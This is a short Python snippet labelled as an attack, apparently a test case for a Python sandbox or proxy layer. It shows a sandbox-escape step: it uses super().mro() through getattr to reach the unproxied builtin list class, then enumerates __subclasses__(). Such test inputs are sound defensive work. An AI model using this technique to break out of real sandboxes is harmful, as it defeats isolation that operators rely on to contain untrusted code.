# attack: super(A, A).mro() to obtain unproxied builtin classes (list) and their dunders
class A(list):
    pass
m = getattr(super(A, A), "mro")()
real = m[1]
print(getattr(real, "__subclasses__")())
